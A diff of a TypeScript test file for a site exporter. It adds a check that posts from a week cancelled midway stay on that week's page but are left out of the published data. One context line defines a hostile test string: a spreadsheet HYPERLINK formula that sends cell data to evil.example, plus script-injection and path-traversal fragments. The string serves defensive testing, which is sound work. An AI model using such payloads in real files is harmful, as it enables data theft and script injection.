@@ -1,12 +1,14 @@
 import { readFileSync } from 'node:fs'
 import { join } from 'node:path'
+import { eq } from 'drizzle-orm'
 import t from 'tap'
+import { posts, weekHosts, weeks } from '../../src/db/schema/index.ts'
 import { addressesIn, fileOf, withAddresses } from '../../src/export/addresses.ts'
 import { csv } from '../../src/export/csv.ts'
 import { writeFolder } from '../../src/export/folder.ts'
 import { contentsOf, publishedWeek, siteOf, SITE_URL } from '../support/exported.ts'
 import { PUBLIC_URL } from '../support/app.ts'
-import { PICTURE, SLOT } from '../support/told-week.ts'
+import { PICTURE, SLOT, WEEK } from '../support/told-week.ts'
 
 const HOSTILE = '=HYPERLINK("https://evil.example/?"&A1,"Click") </script><script>alert(1)</script> ../../etc'
 
@@ -110,6 +112,32 @@ t.test('the data of the weeks is what stands on their pages, whatever people wro
     t.match(path, /^[\w./-]+$/, 'no name of a file is anybody’s words')
     if (/\.html(\.br|\.gz)?$/.test(path)) t.notMatch(bytes.toString(), '<script', path)
   }
+})
+
+t.test('what was said in a week that was cancelled in its middle is kept, too', async (t) => {
+  const world = await publishedWeek(t)
+  const { db } = world
+  await db.write(async (tx) => {
+    const [week] = await tx.select().from(weeks).where(eq(weeks.id, WEEK))
+    const [host] = await tx.select().from(weekHosts).where(eq(weekHosts.weekId, WEEK))
+    const [post] = await tx.select().from(posts).where(eq(posts.networkId, '101'))
+    const times = { opensAt: new Date('2026-11-02T09:00:00Z'), closesAt: new Date('2026-11-06T18:00:00Z') }
+    await tx
+      .insert(weeks)
+      .values({ ...week!, id: 'week-cut', slot: '2026-11-02', state: 'cancelled', ...times })
+    const endedAt = new Date('2026-11-04T12:00:00Z')
+    await tx
+      .insert(weekHosts)
+      .values({ ...host!, id: 'host-cut', weekId: 'week-cut', endedAt, ending: 'cancelled' })
+    const said = { networkId: '90', text: 'Rain on Monday.', createdAt: new Date('2026-11-02T10:00:00Z') }
+    await tx.insert(posts).values({ ...post!, id: 'row-cut', weekId: 'week-cut', ...said })
+  })
+  const folder = join(t.testdir(), 'site')
+  await writeFolder(folder, siteOf(world))
+  const files = contentsOf(folder)
+  t.match(String(files.get('weeks/2026-11-02/index.html')), 'Rain on Monday.')
+  t.ok(files.has('weeks/2026-11-02/share.png'), 'with the picture that it names')
+  t.notMatch(String(files.get('data/weeks.json')), 'Rain on Monday.', 'its story was not published')
 })
 
 t.test('a picture that is missing is told by its description', async (t) => {
